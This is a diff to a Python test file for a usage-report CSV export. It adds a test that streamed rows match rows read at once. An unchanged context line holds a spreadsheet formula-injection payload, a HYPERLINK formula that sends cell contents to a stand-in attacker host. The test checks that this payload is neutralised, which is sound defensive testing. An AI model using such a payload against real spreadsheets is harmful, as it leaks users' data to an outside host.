@@ -440,3 +440,20 @@ def test_a_name_a_spreadsheet_would_run_is_exported_as_text(fleets, client_a):
     table = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
     labels = sorted(row["group_label"] for row in table)
     assert labels == ['\'=HYPERLINK("http://evil.example/?"&A1,"open")', "consumer"]
+
+
+@pytest.mark.parametrize("chunk_rows", [2000, 1], ids=["read at once", "streamed in chunks"])
+def test_the_streamed_rows_are_the_report_s_rows_whether_read_at_once_or_in_chunks(
+    fleets, org_a, monkeypatch, chunk_rows
+):
+    from reports.selectors import report_rows_iter
+
+    monkeypatch.setattr("reports.selectors.usage.STREAM_CHUNK_ROWS", chunk_rows)
+    spec = UsageSpec(
+        organization_ids=[org_a.pk], start=START, end=END, granularity=Granularity.HOUR, group_by=GroupBy.NODE
+    )
+
+    streamed = list(report_rows_iter(spec=spec))
+
+    assert len(streamed) == 6
+    assert streamed == report_rows(spec=spec)
